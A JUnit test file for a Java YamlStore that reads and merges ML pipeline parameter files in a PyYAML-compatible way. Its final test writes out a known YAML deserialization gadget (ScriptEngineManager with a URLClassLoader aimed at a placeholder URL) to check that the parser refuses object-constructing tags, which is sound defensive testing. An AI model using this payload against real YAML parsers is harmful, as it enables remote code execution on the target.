package de.monticore.mlpipelines.tracking.rundir;

import de.monticore.mlpipelines.tracking.TrackingException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class YamlStoreTest {
    @TempDir
    Path temp;

    @Test
    void aMissingFileIsAnEmptyMapping() {
        assertEquals(Map.of(), YamlStore.readStringMap(temp.resolve("params.yaml")));
    }

    @Test
    void mergeKeepsExistingKeysAndLeavesNoTemporaryFiles() throws Exception {
        Path file = temp.resolve("params.yaml");
        Files.writeString(file, "epochs: 10\nlr: 0.1\nuse_gpu: true\n");
        Map<String, String> additions = new LinkedHashMap<>();
        additions.put("lr", "0.01");
        additions.put("optimizer", "adam");
        YamlStore.mergeStringMap(file, additions);
        // A YAML boolean reads back as Python's str of it, as the Python half reads it.
        assertEquals("epochs: \"10\"\nlr: \"0.01\"\nuse_gpu: \"True\"\noptimizer: adam\n", Files.readString(file));
        try (var entries = Files.list(temp)) {
            assertEquals(1, entries.count());
        }
    }

    @Test
    void mergeParamsStoresCanonicalNumbersAndBooleansTyped() throws Exception {
        Path file = temp.resolve("params.yaml");
        Files.writeString(file, "epochs: '10'\nlr: 0.1\nuse_gpu: true\nplain: 1e-5\n");
        Map<String, String> additions = new LinkedHashMap<>();
        additions.put("eps", "1e-05");
        additions.put("padded", "0.10");
        additions.put("missing", "nan");
        YamlStore.mergeParams(file, additions);
        assertEquals("epochs: 10\nlr: 0.1\nuse_gpu: true\nplain: \"1e-5\"\neps: 1.0e-05\npadded: \"0.10\"\nmissing: .nan\n",
                Files.readString(file));
        // PyYAML reads a plain 1e-5 as a string (no point), so this half does too.
        assertEquals(Map.of("epochs", "10", "lr", "0.1", "use_gpu", "True", "plain", "1e-5", "eps", "1e-05",
                "padded", "0.10", "missing", "nan"), YamlStore.readStringMap(file));
    }

    @Test
    void namesAMalformedFile() throws Exception {
        Path file = Files.writeString(temp.resolve("tags.yaml"), "a: [unclosed\n");
        TrackingException error = assertThrows(TrackingException.class, () -> YamlStore.readStringMap(file));
        assertTrue(error.getMessage().startsWith("'" + file + "' is not valid YAML: "), error.getMessage());
    }

    @Test
    void refusesTagsThatConstructObjects() throws Exception {
        Path file = Files.writeString(temp.resolve("params.yaml"),
                "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        TrackingException error = assertThrows(TrackingException.class, () -> YamlStore.readStringMap(file));
        assertTrue(error.getMessage().startsWith("'" + file + "' is not valid YAML: "), error.getMessage());
    }
}
